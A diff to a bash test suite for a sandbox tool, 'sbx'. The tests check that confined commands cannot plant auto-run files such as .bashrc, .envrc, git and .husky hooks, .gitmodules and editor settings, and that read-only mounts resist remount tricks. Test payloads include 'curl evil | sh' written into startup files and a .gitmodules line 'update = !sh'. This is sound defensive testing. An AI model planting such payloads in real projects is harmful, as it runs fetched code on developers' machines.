@@ -250,20 +250,87 @@ write_case() {
     tap_finish "control: $what works with filesystem.disabled"
 }
 
+# neutralise_case SETUP DESCRIPTION NAME SCRIPT: NAME, a protected name missing at
+# the root that only a later program reads, is made by SCRIPT (sh, in the root)
+# while the command runs, which nothing refuses; once it is over, sbx has renamed
+# it to NAME.sbx-disabled and said so, and NAME is gone. The control makes it
+# with filesystem.disabled, where it stays.
+neutralise_case() {
+    local setup=$1 what=$2 name=$3 script=$4
+    fresh_case
+    $setup
+    sbx_run "${confined[@]}" -- sh -c "$script" sh "$proj"
+    want_status 0
+    want_err "neutralised protected $proj/$name ("
+    want_err ") -> $proj/$name.sbx-disabled"
+    want_no_file "$proj/$name"
+    [[ -e $proj/$name.sbx-disabled || -L $proj/$name.sbx-disabled ]] || fail_because "no $name.sbx-disabled"
+    tap_finish "$what: renamed to $name.sbx-disabled once the command is over"
+
+    fresh_case
+    $setup
+    sbx_run --settings "$conf/fs-disabled.json" -- sh -c "$script" sh "$proj"
+    want_status 0
+    want_no_err "neutralised"
+    [[ -e $proj/$name || -L $proj/$name ]] || fail_because "$name was not made"
+    want_no_file "$proj/$name.sbx-disabled"
+    tap_finish "control: $what stays with filesystem.disabled"
+}
+
+# covered_case NAME: a folder NAME at the root, missing, that an open editor
+# reads while the command runs: the command can neither make it (an empty
+# read-only placeholder is there) nor write its settings.json, and nothing is
+# left on the host. The control makes both with filesystem.disabled.
+covered_case() {
+    local name=$1 script='mkdir -p "$1/$2" && echo "{\"x\": 1}" >"$1/$2/settings.json"'
+    fresh_case
+    setup_repo
+    sbx_run "${confined[@]}" -- sh -c "$script" sh "$proj" "$name"
+    ((rc != 0)) || fail_because "the command made it"
+    want_err "$name/settings.json: Read-only file system"
+    want_no_file "$proj/$name"
+    tap_finish "making $name/settings.json, which an open editor applies at once, is refused"
+
+    fresh_case
+    setup_repo
+    sbx_run --settings "$conf/fs-disabled.json" -- sh -c "$script" sh "$proj" "$name"
+    want_status 0
+    [[ -f $proj/$name/settings.json ]] || fail_because "$name/settings.json was not made"
+    tap_finish "control: making $name/settings.json works with filesystem.disabled"
+}
+
 fs_attacks() {
     write_case setup_outside "writing a file outside the writable roots" outside/note.txt
     write_case setup_repo "writing .git/hooks/pre-commit" project/.git/hooks/pre-commit
     write_case setup_repo "writing .git/config" project/.git/config
     write_case setup_claude "writing .claude/settings.json" project/.claude/settings.json
-    write_case setup_plain "writing .bashrc in the root" project/.bashrc
-    write_case setup_plain "writing .mcp.json" project/.mcp.json
     write_case setup_plain "creating HEAD at a root that is no repository" project/HEAD
-    # Files other tools run without being asked.
-    write_case setup_plain "writing .envrc (direnv runs it)" project/.envrc
-    write_case setup_plain "writing .pre-commit-config.yaml" project/.pre-commit-config.yaml
+    # Covered while the command runs: an open editor applies new settings at once.
+    covered_case .vscode
+    covered_case .zed
+    # Existing ones are read-only.
     write_case setup_tool_dirs "writing a hook in .husky" project/.husky/pre-commit
     write_case setup_tool_dirs "writing .devcontainer/devcontainer.json" project/.devcontainer/devcontainer.json
-    write_case setup_plain "writing .devcontainer.json" project/.devcontainer.json
+    # Missing ones only a later program reads: made, then renamed after the run.
+    neutralise_case setup_repo "a .bashrc made in the root" .bashrc 'echo "curl evil | sh" >"$1/.bashrc"'
+    neutralise_case setup_plain "a .mcp.json made in the root" .mcp.json 'echo "{\"mcpServers\": {}}" >"$1/.mcp.json"'
+    neutralise_case setup_repo "an .envrc made in the root (direnv runs it)" .envrc 'echo "curl evil | sh" >"$1/.envrc"'
+    neutralise_case setup_repo "an .envrc made as a symbolic link" .envrc 'ln -s /etc/hostname "$1/.envrc"'
+    neutralise_case setup_repo "a .pre-commit-config.yaml made in the root" .pre-commit-config.yaml \
+        'echo "repos: []" >"$1/.pre-commit-config.yaml"'
+    neutralise_case setup_repo "a .husky folder made with a hook in it" .husky \
+        'mkdir -p "$1/.husky/_" && echo "curl evil | sh" >"$1/.husky/pre-commit"'
+    neutralise_case setup_repo "a .gitmodules made in the root" .gitmodules \
+        'printf "[submodule \"x\"]\n\tpath = x\n\turl = ../x\n\tupdate = !sh\n" >"$1/.gitmodules"'
+
+    # In a fresh repository the command sees the project and the names read live.
+    fresh_case
+    setup_repo
+    sbx_run "${confined[@]}" -- ls -A "$proj"
+    want_status 0
+    [[ $(tr '\n' ' ' <<<"$out") == ".claude .cogitator .cursor .git .vscode .zed " ]] ||
+        fail_because "ls -A inside lists: $(tr '\n' ' ' <<<"$out")"
+    tap_finish "ls -A in a fresh repository lists .git and five placeholders read live"
 
     # A hidden file, read directly and through a symlink the command makes.
     fresh_case
@@ -690,10 +757,10 @@ leftover_attacks() {
     start_bg timeout 20 "$sbx" run --root "$proj" "${managed[@]}" "${confined[@]}" \
         -- sh -c 'while [ ! -e "$1" ]; do sleep 0.05; done' sh "$case_dir/go"
     run=$bg_pid
-    wait_until 10 test -e "$proj/.bashrc" || fail_because "no placeholder $proj/.bashrc appeared"
+    wait_until 10 test -e "$proj/.vscode" || fail_because "no placeholder $proj/.vscode appeared"
     wait_until 10 tmpdir_made || fail_because "no temporary directory $tmpd/sbx-* appeared"
     rc=0 out=$(cat "$case_dir/bg.log") err=''
-    tap_finish "control: while the command runs, the placeholder .bashrc and \$TMPDIR/sbx-* exist"
+    tap_finish "control: while the command runs, the placeholder .vscode and \$TMPDIR/sbx-* exist"
 
     touch "$case_dir/go"
     rc=0
@@ -710,8 +777,8 @@ leftover_attacks() {
 }
 
 # launch_cleaned LAUNCHER MARKER: the launcher has ended, and the placeholder
-# .bashrc, the temporary directory and every process named MARKER are gone.
-launch_cleaned() { ended "$1" && [[ ! -e $proj/.bashrc ]] && no_tmpdir && no_process "$2"; }
+# .vscode, the temporary directory and every process named MARKER are gone.
+launch_cleaned() { ended "$1" && [[ ! -e $proj/.vscode ]] && no_tmpdir && no_process "$2"; }
 
 # launcher_kill SIGNAL: the launcher killed with SIGNAL while the command runs
 # leaves no placeholder, no temporary directory and no process within 3 seconds.
@@ -726,7 +793,7 @@ launcher_kill() {
         -- bash -c 'exec -a "$0" sleep 300' "$marker"
     launcher=$bg_pid
     rc=0 out='' err=''
-    if ! wait_until 10 test -e "$proj/.bashrc" || ! wait_until 10 has_process "$marker 300"; then
+    if ! wait_until 10 test -e "$proj/.vscode" || ! wait_until 10 has_process "$marker 300"; then
         fail_because "the sandboxed command did not start"
     fi
     {
@@ -734,7 +801,7 @@ launcher_kill() {
         # One deadline for everything; then each thing that is still there is named.
         wait_until 3 launch_cleaned "$launcher" "$marker" || true
         ended "$launcher" || fail_because "the launcher is still running 3 s after SIG$signal"
-        [[ ! -e $proj/.bashrc ]] || fail_because "the placeholder $proj/.bashrc remains"
+        [[ ! -e $proj/.vscode ]] || fail_because "the placeholder $proj/.vscode remains"
         no_tmpdir || fail_because "left behind: $(echo "$tmpd"/sbx-*)"
         no_process "$marker" || fail_because "still running: $(pgrep -af "$marker" | tr '\n' ' ')"
         stop_bg "$launcher"
@@ -930,27 +997,27 @@ stage_attacks() {
 
     # The capability would make a read-only mount writable again.
     fresh_case
-    sbx_run "${confined[@]}" -- "$attack" remount-rw "$proj/.bashrc"
+    sbx_run "${confined[@]}" -- "$attack" remount-rw "$proj/HEAD"
     want_refused
-    sbx_run "${confined[@]}" -- "$attack" write "$proj/.bashrc" "written by an attack"
+    sbx_run "${confined[@]}" -- "$attack" write "$proj/HEAD" "written by an attack"
     want_refused
-    want_no_file "$proj/.bashrc"
+    want_no_file "$proj/HEAD"
     tap_finish "the placeholder's read-only mount stays read-only: mount_setattr is refused"
 
     fresh_case
-    : >"$proj/.bashrc"
-    give "$proj/.bashrc"
-    capture timeout 20 "${stage_bwrap[@]}" --ro-bind "$proj/.bashrc" "$proj/.bashrc" -- "$attack" remount-rw "$proj/.bashrc"
+    : >"$proj/HEAD"
+    give "$proj/HEAD"
+    capture timeout 20 "${stage_bwrap[@]}" --ro-bind "$proj/HEAD" "$proj/HEAD" -- "$attack" remount-rw "$proj/HEAD"
     want_succeeded
     tap_finish "control: with the stage's capability, mount_setattr makes a read-only bind writable"
 
     # pid 1 is bubblewrap's, made before the stage's mounts: its root must not be
     # a way around them (it is the same mount namespace, and out of reach).
     fresh_case
-    sbx_run "${confined[@]}" -- "$attack" write "/proc/1/root$proj/.bashrc" "written by an attack"
+    sbx_run "${confined[@]}" -- "$attack" write "/proc/1/root$proj/HEAD" "written by an attack"
     want_refused
-    want_no_file "$proj/.bashrc"
-    tap_finish "writing .bashrc through pid 1's root is refused"
+    want_no_file "$proj/HEAD"
+    tap_finish "writing the HEAD placeholder through pid 1's root is refused"
 
     fresh_case
     capture timeout 20 bwrap --unshare-user --unshare-all --die-with-parent --ro-bind / / --dev /dev --proc /proc \
